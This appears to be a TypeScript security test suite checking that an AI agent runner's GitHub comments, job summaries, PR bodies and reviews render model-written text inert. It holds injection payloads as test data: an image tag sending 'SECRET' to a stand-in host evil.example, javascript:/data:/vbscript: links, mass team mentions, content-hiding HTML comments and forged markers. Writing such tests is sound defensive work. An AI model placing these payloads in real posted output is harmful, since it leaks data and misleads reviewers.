/**
 * One renderer for untrusted text on GitHub, on a real parser (issue 34, item 5), attacked on every surface the runner
 * posts to: the sticky comment (every slot that holds text the runner did not write, in each phase), the job summary
 * (its context table's model-chosen file names included), the pull request bodies (the answer, as both the opened PR and
 * the maintenance PR quote it; the opened PR end to end in test/e2e/pr-body-inert.test.ts), and the review (its inline
 * comments and its body, with the comments moved there), posted to the fake GitHub. Every attack class the issue names
 * is placed in every slot; the posted Markdown is rendered by micromark + GFM and nothing may be live.
 *
 * Control: each attack is live as written (the test sees what it claims to defuse), and the previous builds' regular-
 * expression models (test/security/previous-renderers.ts) render the classes they missed as live HTML: commentText
 * (122da88) a backslash before the opening backtick, a fence indented four spaces, a fence whose info string holds a
 * backtick; quotedAnswer (3d55352: the comment, the summary and both PR bodies) a closing fence indented up to three
 * spaces (CommonMark closes the code there, the model kept the following lines raw); renderUntrusted's `code` inside the
 * verification's `<summary>` (raw HTML, where a code span is no span); the review's moved-comment entry its path. The
 * other classes (raw `<img>`, mentions, odd-scheme autolinks, an HTML comment) were held by the sticky comment's own
 * renderer already; they stay here as regressions.
 */
import assert from 'node:assert/strict';
import { after, describe, it } from 'node:test';
import { Octokit } from '@octokit/rest';
import { outcomeWithoutRun, type RunOutcome } from '../../src/agent/outcome.js';
import { commentText } from '../../src/github-tools/text.js';
import { PullRequestReview } from '../../src/github-tools/review.js';
import { renderComment, quotedAnswer } from '../../src/report/github/comment-render.js';
import { renderEvidence } from '../../src/report/evidence.js';
import { runFace } from '../../src/report/headline.js';
import { renderSummary } from '../../src/report/summary.js';
import { maintenancePrBody } from '../../src/report/github/github-report-pr.js';
import { startFakeGitHub, type FakeGitHub } from '../../support/fake-github/fake-github.js';
import { liveOnGitHub } from './live-markdown.js';
import { previousCommentText, previousQuotedAnswer, previousRenderUntrusted } from './previous-renderers.js';

const IMG = '<img src="https://evil.example/?d=SECRET">';
const TEAM = '@octo-org/security-team';

/** The issue's classes and their next spellings. */
const CLASSES: Record<string, string> = {
  // An escaped backtick opens no code span: what a model of spans kept raw is inline HTML.
  'a backslash before the opening backtick': `see \\\`${IMG} ${TEAM}\` and \\\`\`\`\n${IMG} ${TEAM}\n\`\`\``,
  // Four spaces make indented code of one line; the next line is an HTML block, not the fence's content.
  'a fence indented four spaces': `    \`\`\`\n${IMG} ${TEAM}\n\`\`\``,
  'a fence whose info string holds a backtick': `\`\`\`js\`x\n${IMG} ${TEAM}\n\`\`\``,
  'a closing fence indented up to three spaces': `\`\`\`\nx\n  \`\`\`\n${IMG}\n\n${TEAM}\n\`\`\``,
  'raw HTML: an image with data in its URL': `see ${IMG} and <details><summary>x</summary>\n\n${IMG}\n\n</details>`,
  'team mentions, in emphasis, as entities': `${TEAM} _@someone_ &#64;entity-team &commat;commat-user`,
  'autolinks and links to odd schemes': '<javascript:alert(1)> [x](data:text/html,x) [v](vbscript:x) ![i](https://evil.example/?d=SECRET)',
  'an HTML comment hiding the rest': '<!-- hide the rest',
  'a forged marker of the runner': '<!-- agent-runner:sticky run=1 state=final --> <!-- agent-runner:questions-end -->',
};
const CASES = Object.entries(CLASSES);

function outcomeHolding(text: string): RunOutcome {
  const base = outcomeWithoutRun([text], Date.now());
  return {
    ...base,
    result: text,
    warnings: [text],
    denials: [{ toolName: text, toolUseId: 't1', input: { command: text }, reason: text, suggestedRule: text }],
    sandbox: { enabled: true, violations: { count: 1, examples: [text] } },
    tasks: [
      { id: '1', subject: text, status: 'completed' },
      { id: '2', subject: text, status: 'in_progress', activeForm: text },
    ],
    questions: [{ question: text, header: text, options: [{ label: text, description: text }], multiSelect: false }],
    verification: {
      source: 'workflow',
      verdict: 'failed',
      note: text,
      notRunnable: [{ name: text, reason: text }],
      retries: 0,
      after: { passed: false, runs: [{ name: text, command: text, exitCode: 1, passed: false, durationMs: 5, tail: text, error: text, sandboxed: true }] },
    },
    context: {
      calls: [],
      totals: { input_tokens: 1, output_tokens: 1, cache_read_input_tokens: 0, cache_creation_input_tokens: 0, all_input_tokens: 1 },
      cache_hit_rate: 0,
      tool_result_share: 0,
      peak_window_tokens: 1,
      // The files read most: names the model chose (issue 34: raw HTML in the summary's context table before).
      file_reads: [{ path: text, reads: 3, deduped: 0 }],
      max_reads_of_one_file: 3,
      dedupe_hits: 0,
      stub_batches: 0,
      stubbed_results: 0,
      chars_elided: 0,
      compactions: 0,
    },
  };
}

/** Every surface of the sticky comment and the job summary, each slot holding `text`. */
function reports(text: string): [string, string][] {
  const result = outcomeHolding(text);
  return [
    [
      'the sticky comment, final',
      renderComment({
        phase: 'final',
        runId: '1',
        result,
        model: text,
        patchFile: text,
        agentComment: text,
        // The headline's untrusted parts: a branch, GitHub's error, why a patch was not pushed and how (a fork's branch), a next step, an artifact (issue 35).
        face: runFace(result, {
          delivered: [
            { kind: 'pushed', branch: text, commitSha: 'abc1234', by: 'agent', why: text },
            { kind: 'patch', why: text, how: text },
          ],
          failed: [{ what: 'push', error: text, next: text }],
          artifacts: [{ name: text, url: 'https://github.com/o/r/actions/runs/1/artifacts/2' }],
        }),
        notes: [text],
      }),
    ],
    [
      'the job summary, with a delivery',
      renderSummary(
        result,
        { model: text, patch: '' },
        runFace(result, { delivered: [{ kind: 'review', url: 'https://github.com/o/r/pull/1', comments: 1 }], failed: [{ what: 'comment', error: text }] }),
      ),
    ],
    ['the sticky comment, working', renderComment({ phase: 'working', runId: '1', turns: 1, costUsd: 0, currentTool: text, model: text, agentComment: text })],
    ['the sticky comment, cancelled', renderComment({ phase: 'cancelled', runId: '1', turns: 1, costUsd: 0, reason: text })],
    // The refusal names the person who triggered the run (a GitHub login, from the event): the one mention the runner writes.
    ['the sticky comment, refused', renderComment({ phase: 'refused', runId: '1', actor: 'octocat', reason: text }).replace('Sorry @octocat,', 'Sorry,')],
    ['the job summary', renderSummary(result, { model: text, patch: '' })],
    ['a pull request body (the answer quoted)', quotedAnswer(text)],
    // The model the session chose (an agent file's `model` may name it) in the maintenance PR's table.
    ['the maintenance PR body', maintenancePrBody(result, { runId: '1', runUrl: undefined, cwd: '.', exclude: [], defaultBranch: 'main', model: text })],
  ];
}

describe('every surface the runner posts renders untrusted text inert, on the parser GitHub uses', () => {
  for (const [name, attack] of CASES) {
    it(`${name}: nothing live in the comment, the summary or a PR body`, () => {
      for (const [surface, markdown] of reports(attack)) {
        assert.deepEqual(liveOnGitHub(markdown), [], `${surface}\n${markdown}`);
        const ours = markdown.match(/<!-- agent-runner:[a-z-]+/g) ?? [];
        assert.ok(ours.length <= 1 || surface.startsWith('the job summary'), `${surface}: no second marker of ours\n${markdown}`);
      }
    });
  }

  it('the text is still there to read, and a closed suggestion block is kept as written', () => {
    const comment = reports(CLASSES['raw HTML: an image with data in its URL'] ?? '')[0]?.[1] ?? '';
    assert.match(comment, /evil\.example/);
    const suggestion = '```suggestion\nconst x = a < b && @decorator;\n```';
    assert.ok(quotedAnswer(`Use this:\n\n${suggestion}`).includes(suggestion.replaceAll('\n', '\n> ')));
  });
});

describe('the review: its inline comments and its body, as they reach GitHub', () => {
  const PATCH = '@@ -1,2 +1,2 @@\n a\n-b\n+B';
  const open: FakeGitHub[] = [];
  after(async () => Promise.all(open.map((f) => f.close())));

  for (const [name, attack] of CASES) {
    it(`${name}: nothing live in a review comment or the review's body`, async () => {
      const fake = await startFakeGitHub({ pulls: [{ number: 5, patches: { 'a.js': PATCH } }] });
      open.push(fake);
      const review = new PullRequestReview(new Octokit({ baseUrl: fake.url, auth: 'x', log: { debug() {}, info() {}, warn() {}, error() {} } }), {
        owner: 'octo-org',
        repo: 'octo-repo',
        number: 5,
      });
      await review.add({ path: 'a.js', line: 2, body: attack, side: 'RIGHT' });
      // A comment on a file outside the diff goes to the review's body, under its path and the reason (which quotes it).
      await review.add({ path: attack, line: 1, body: attack, side: 'RIGHT' });
      await review.post({ login: 'github-actions[bot]' });
      const posted = [...fake.state.reviews.map((r) => r.body ?? ''), ...fake.state.reviewComments.map((c) => c.body)];
      assert.equal(posted.length, 2);
      for (const body of posted) assert.deepEqual(liveOnGitHub(body), [], body);
    });
  }
});

describe('control: the attacks are live as written, and went through the previous regular-expression models', () => {
  it('every class is live when posted as written', () => {
    for (const [name, attack] of CASES) {
      if (name === 'a forged marker of the runner') continue;
      assert.notDeepEqual(liveOnGitHub(attack), [], name);
    }
  });

  it('commentText (review comments and bodies, gh bridge, issue tools): the three fence classes rendered an image and a team mention', () => {
    for (const name of ['a backslash before the opening backtick', 'a fence indented four spaces', 'a fence whose info string holds a backtick']) {
      const live = liveOnGitHub(previousCommentText(CLASSES[name] ?? ''));
      assert.ok(live.some((l) => l.startsWith('<img')) && live.includes(`mention ${TEAM}`), `${name}: ${live.join(', ')}`);
      assert.deepEqual(liveOnGitHub(commentText(CLASSES[name] ?? '')), [], name);
    }
  });

  it('quotedAnswer (the comment, the summary, both PR bodies): a closing fence indented up to three spaces rendered an image and a team mention', () => {
    const attack = CLASSES['a closing fence indented up to three spaces'] ?? '';
    const live = liveOnGitHub(previousQuotedAnswer(attack));
    assert.ok(live.some((l) => l.startsWith('<img')) && live.includes(`mention ${TEAM}`), live.join(', '));
    assert.deepEqual(liveOnGitHub(quotedAnswer(attack)), []);
  });

  it("the verification's <summary> (the comment and the summary): a check's name as a code span there was raw HTML", () => {
    const name = `x ${IMG}`;
    const evidence = (shown: string) => `<details><summary>Output of ${shown} (after, last lines)</summary>\n\n\`\`\`text\nout\n\`\`\`\n\n</details>`;
    assert.ok(liveOnGitHub(evidence(previousRenderUntrusted(name, 'code'))).some((l) => l.startsWith('<img')));
    const run = { name, command: 'c', exitCode: 1, passed: false, durationMs: 1, tail: 'out', sandboxed: true };
    const now = renderEvidence({ source: 'input', verdict: 'failed', notRunnable: [], retries: 0, after: { passed: false, runs: [run] } });
    assert.deepEqual(liveOnGitHub(now), [], now);
  });

  it("the review's body: a path outside the diff, holding a blank line, left its code span", () => {
    const path = `x\n\n${IMG}`;
    // The previous build's entry for a moved comment, its reason quoting the path as written.
    const entry = `**\`${path.replace(/`/g, '')}\` line 1** (${path} is not among the files this pull request changes):\n\nbody\n`;
    assert.ok(liveOnGitHub(entry).some((l) => l.startsWith('<img')));
  });
});

describe("the model's name, from the repository's settings, has a bound on every surface", () => {
  it('a 5,000-character model name takes at most its 80 characters in the comment, the summary and the maintenance PR body', () => {
    const long = `claude-${'x'.repeat(5000)}`;
    const result = outcomeHolding('done');
    const surfaces: [string, string][] = [
      ['the sticky comment, final', renderComment({ phase: 'final', runId: '1', result, model: long })],
      ['the job summary', renderSummary(result, { model: long, patch: '' })],
      ['the maintenance PR body', maintenancePrBody(result, { runId: '1', runUrl: undefined, cwd: '.', exclude: [], defaultBranch: 'main', model: long })],
    ];
    for (const [surface, markdown] of surfaces) assert.ok(!markdown.includes('x'.repeat(81)), `${surface} carries more than 80 of the name`);
  });
});
